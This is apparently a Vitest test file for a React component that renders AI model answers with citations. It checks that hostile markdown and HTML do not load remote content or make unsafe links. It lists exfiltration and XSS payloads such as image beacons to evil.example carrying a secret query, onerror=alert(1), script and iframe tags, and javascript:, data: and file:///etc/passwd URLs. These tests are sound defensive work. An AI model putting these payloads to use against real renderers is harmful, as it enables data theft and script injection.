import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { AnswerText } from './answer-text';

const passage = {
  rank: 1,
  documentId: 'doc_1',
  documentName: 'Guide.md',
  start: 10,
  end: 20,
  page: null,
  headingPath: [],
  text: 'The text.',
  score: 1,
  stages: {},
};

const render = (text: string) =>
  renderToStaticMarkup(
    createElement(AnswerText, {
      text,
      passages: [passage],
      citations: [{ hitRank: 1, verified: true }],
      hrefFor: (hit) => `/w/acme/documents/${hit.documentId}?start=${hit.start}&end=${hit.end}`,
    }),
  );

const hostile = [
  '![](https://evil.example/?q=secret)',
  '![alt](//evil.example/x.png "title")',
  '![a][r]\n\n[r]: https://evil.example/ref.png',
  '[![x](https://evil.example/in-link.png)](https://evil.example/)',
  '**[![x](https://evil.example/deep.png)](https://evil.example/)**',
  '| a |\n| --- |\n| ![x](https://evil.example/cell.png) |',
  '- [ ] ![x](https://evil.example/task.png)',
  '[^1]\n\n[^1]: ![x](https://evil.example/footnote.png)',
  '<img src="https://evil.example/raw.png">',
  '<img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe><script src="https://evil.example/x.js"></script>',
  '<link rel="preload" as="image" href="https://evil.example/x.png">',
  '<svg><image href="https://evil.example/x.png"/></svg>',
  '<style>@import "https://evil.example/x.css";</style>',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](blob:https://evil.example/1)',
  '<video poster="https://evil.example/x.png"></video>',
  'https://evil.example/auto and www.evil.example and <https://evil.example/angle>',
];

describe('A text from a model', () => {
  it.each(hostile)('loads nothing: %s', (text) => {
    const html = render(text);
    expect(html).not.toMatch(
      /<(img|iframe|script|link|style|video|audio|source|object|embed|svg[^>]*>\s*<image|form|meta|base)\b/i,
    );
    expect(html).not.toMatch(/<[^>]*\s(src|srcset|poster|data|action|background|style|ping)=/i);
    expect(html).not.toMatch(/<[^>]*\shref="(?!\/w\/|#)/i);
    expect(html).not.toMatch(/<[^>]*\son\w+=/i);
  });

  it('shows the whole address of an image that was not loaded', () => {
    expect(render('![chart](https://evil.example/?q=secret)')).toContain('https://evil.example/?q=secret');
    expect(render('![a][r]\n\n[r]: https://evil.example/ref.png')).toContain('https://evil.example/ref.png');
  });

  it('shows HTML as text', () => {
    expect(render('<b>bold</b>')).toContain('&lt;b&gt;');
  });

  it.each(['javascript:alert(1)', 'vbscript:x', 'data:text/html,x', 'file:///etc/passwd'])(
    'makes no link of %s',
    (url) => {
      const html = render(`[click](${url})`);
      expect(html).not.toContain('<a');
      expect(html).not.toContain('<button');
    },
  );

  it('makes links that ask before they open', () => {
    const html = render('[a link](https://example.org/x)');
    expect(html).toContain('<button');
    expect(html).toContain('link to example.org');
    expect(html).not.toContain('<a ');
  });

  it('turns [1] into a citation that opens the document at the passage', () => {
    const html = render('It is so [1].');
    expect(html).toContain('href="/w/acme/documents/doc_1?start=10&amp;end=20"');
    expect(html).toContain('aria-label="Citation 1: Guide.md"');
  });

  it('marks a citation of nothing as not verified', () => {
    expect(render('It is so [7].')).toContain('Citation 7, not verified');
  });

  it('leaves brackets in code alone', () => {
    expect(render('`a[1]`\n\n```\nb[1]\n```')).not.toContain('Citation');
  });
});
